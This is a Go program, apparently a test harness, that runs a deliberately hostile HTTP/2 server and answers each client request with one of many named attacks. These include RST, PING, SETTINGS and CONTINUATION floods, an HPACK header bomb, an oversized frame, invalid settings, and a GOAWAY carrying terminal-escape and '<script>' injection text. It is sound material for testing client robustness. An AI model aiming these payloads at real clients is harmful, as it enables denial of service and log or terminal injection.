//go:build ignore

package main

import (
	"bytes"
	"io"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// fields packs header fields, given as names and values in turn.
func fields(list ...string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for i := 0; i < len(list); i += 2 {
		e.WriteField(hpack.HeaderField{Name: list[i], Value: list[i+1]})
	}
	return b.Bytes()
}

// floods are the attacks of a server of HTTP/2, on the stream of a request.
var floods = map[string]func(f *http2.Framer, conn net.Conn, id uint32){
	"resets":  many(func(f *http2.Framer, id uint32) error { return f.WriteRSTStream(id, http2.ErrCodeInternal) }),
	"refused": func(f *http2.Framer, _ net.Conn, id uint32) { f.WriteRSTStream(id, http2.ErrCodeRefusedStream) },
	"settings": many(func(f *http2.Framer, _ uint32) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 20000})
	}),
	"pings": many(func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{1}) }),
	"empty-data": after(fields(":status", "200", "content-type", "text/event-stream"), true,
		func(f *http2.Framer, id uint32) error { return f.WriteData(id, false, nil) }),
	"continuations": after(fields(":status", "200"), false,
		func(f *http2.Framer, id uint32) error {
			return f.WriteContinuation(id, false, fields("x-a", strings.Repeat("b", 8000)))
		}),
	"empty-continuations": after(fields(":status", "200"), false,
		func(f *http2.Framer, id uint32) error { return f.WriteContinuation(id, false, nil) }),
	"interims": many(func(f *http2.Framer, id uint32) error {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: fields(":status", "103"),
			EndHeaders: true})
	}),
	"header-bomb": func(f *http2.Framer, _ net.Conn, id uint32) {
		block := append(fields(":status", "200", "x-a", strings.Repeat("a", 3900)),
			bytes.Repeat([]byte{0xbe}, 12000)...)
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true})
	},
	"push": func(f *http2.Framer, _ net.Conn, id uint32) {
		f.WritePushPromise(http2.PushPromiseParam{StreamID: id, PromiseID: 2, BlockFragment: fields(":method", "GET"),
			EndHeaders: true})
	},
	"bad-settings": func(f *http2.Framer, _ net.Conn, _ uint32) {
		f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0xffffffff})
	},
	"large-frame": func(_ *http2.Framer, conn net.Conn, id uint32) {
		conn.Write(append([]byte{0xff, 0xff, 0xff, 0, 0, 0, 0, 0, byte(id)}, make([]byte, 1<<20)...))
	},
	"no-status": func(f *http2.Framer, _ net.Conn, id uint32) {
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: fields("a", "b"), EndHeaders: true,
			EndStream: true})
	},
	"short": func(f *http2.Framer, _ net.Conn, id uint32) {
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: id,
			BlockFragment: fields(":status", "200", "content-length", "5000"), EndHeaders: true})
		f.WriteData(id, true, []byte(reply))
	},
	"goaway-all": func(f *http2.Framer, conn net.Conn, _ uint32) {
		f.WriteGoAway(0, http2.ErrCodeEnhanceYourCalm, bytes.Repeat([]byte("\x1b[31m<script>"), 1000))
		conn.Close()
	},
}

// many sends a frame until the client leaves.
func many(frame func(*http2.Framer, uint32) error) func(*http2.Framer, net.Conn, uint32) {
	return func(f *http2.Framer, _ net.Conn, id uint32) {
		for range 2_000_000 {
			if frame(f, id) != nil {
				return
			}
		}
	}
}

// after sends response headers, then a frame until the client leaves.
func after(block []byte, end bool, frame func(*http2.Framer, uint32) error) func(*http2.Framer, net.Conn, uint32) {
	return func(f *http2.Framer, conn net.Conn, id uint32) {
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: end})
		many(frame)(f, conn, id)
	}
}

// serve2 answers each request of a connection with a flood.
func serve2(conn net.Conn, flood func(*http2.Framer, net.Conn, uint32)) {
	if _, err := io.CopyN(io.Discard, conn, int64(len(http2.ClientPreface))); err != nil {
		return
	}
	f := http2.NewFramer(conn, conn)
	f.AllowIllegalWrites = true
	f.WriteSettings()
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return
		}
		switch frame := frame.(type) {
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				f.WriteSettingsAck()
			}
		case *http2.HeadersFrame:
			flood(f, conn, frame.StreamID)
		}
	}
}
